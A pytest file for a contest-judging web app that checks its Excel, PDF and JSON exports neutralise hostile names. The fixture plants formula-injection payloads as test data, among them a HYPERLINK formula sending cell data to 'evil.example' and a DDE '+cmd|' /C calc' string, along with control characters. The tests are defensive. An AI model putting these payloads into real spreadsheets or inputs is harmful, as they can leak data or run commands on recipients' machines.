"""The files organizers hand over can be trusted (issue 9: items 1, 2, 14, 15, 16, 17).

One locked evening (tests.test_exports.run_evening) is played, then names are rewritten straight in
the database -- formula-looking text that applicants can choose, and control characters that the
input now refuses but an older database may hold -- and the server is started again on that file.
Every export is then opened the way the person receiving it would: the workbook with openpyxl
(no formula cell anywhere), every CSV as Excel on Chinese Windows decodes it (BOM -> UTF-8, else
GBK), the PDF with pdffonts (every font embedded) and rendered with the Chinese fonts taken out of
fontconfig's view (the embedded subset still draws the characters).
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import zipfile

import pytest
from openpyxl import load_workbook
from starlette.testclient import TestClient

from judging.web.app import create_app
from tests.conftest import ORGANIZER_KEY
from tests.test_exports import CID, ORG, pdf_text, run_evening

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
HOSTILE_PROJECTS = {  # project id -> (name, organization, community)
    "P1": (FORMULA, "+cmd|' /C calc'!A0", "@SUM(1+1)"),
    "P2": ("A\x00B 社区花园", "-2+3 公益服务中心", "\t=1+1"),
    "P3": ("J\x0bV 邻里互助", "\r=2+2 协会", "阳光社区"),
}
HOSTILE_JUDGES = {"E1": "=1+2", "E2": "J\x0bV王", "U1": "@王", "U2": "-周\x1f红梅"}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    db = tmp_path_factory.mktemp("trust") / "evening.db"
    with TestClient(create_app(str(db), organizer_key=ORGANIZER_KEY)) as client:
        run_evening(client)
    con = sqlite3.connect(db)
    with con:
        for pid, (name, org, com) in HOSTILE_PROJECTS.items():
            con.execute("UPDATE projects SET name = ?, organization = ?, community = ? WHERE contest_id = ? AND id = ?",
                        (name, org, com, CID, pid))
        for jid, name in HOSTILE_JUDGES.items():
            con.execute("UPDATE judges SET name = ? WHERE contest_id = ? AND id = ?", (name, CID, jid))
        con.execute("UPDATE contests SET name = ? WHERE id = ?", ("=决赛\x00（测试场）", CID))
    con.close()
    with TestClient(create_app(str(db), organizer_key=ORGANIZER_KEY)) as client:
        client.db = db  # type: ignore[attr-defined]
        yield client


def fetch(client: TestClient, what: str, **params) -> bytes:
    r = client.get(f"/api/contests/{CID}/export/{what}", headers=ORG, params=params)
    assert r.status_code == 200, (what, r.status_code, r.text[:300])
    return r.content


# ------------------------------------------------------------------ items 1 and 2: Excel

def test_workbook_has_no_formula_cell_and_no_control_character(hostile):
    data = fetch(hostile, "results.xlsx")
    wb = load_workbook(io.BytesIO(data))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a live formula: {c.value!r}"
                if isinstance(c.value, str):
                    texts.append(c.value)
    blob = "\n".join(texts)
    assert FORMULA in blob, "the name is shown as it was typed, as text"
    assert "AB 社区花园" in blob and "JV 邻里互助" in blob and "JV王" in blob and "-周红梅" in blob
    assert not any(ch in blob for ch in "\x00\x0b\x1f"), "control characters are removed"
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml"))
    assert "<f>" not in xml and "<f " not in xml, "no formula element in the file itself"
    summary = wb["成绩汇总"]
    assert summary["A1"].value == "=决赛（测试场）" and summary["A1"].data_type == "s"


# ------------------------------------------------------------------ item 2: PDF and JSON

def test_pdf_and_archive_survive_control_characters(hostile):
    _, text = pdf_text(fetch(hostile, "scoresheets.pdf"))
    assert "AB社区花园" in text and "JV邻里互助" in text and "JV王" in text, "names printed without the controls"
    assert "\x00" not in text and "\x0b" not in text
    archive = fetch(hostile, "archive.json")
    data = json.loads(archive)
    names = {p["id"]: p["name"] for p in data["contest"]["projects"]}
    assert names["P2"] == "A\x00B 社区花园" and names["P1"] == FORMULA, "the archive keeps the exact text"
    assert b"\\u0000" in archive, "JSON escapes the control character"
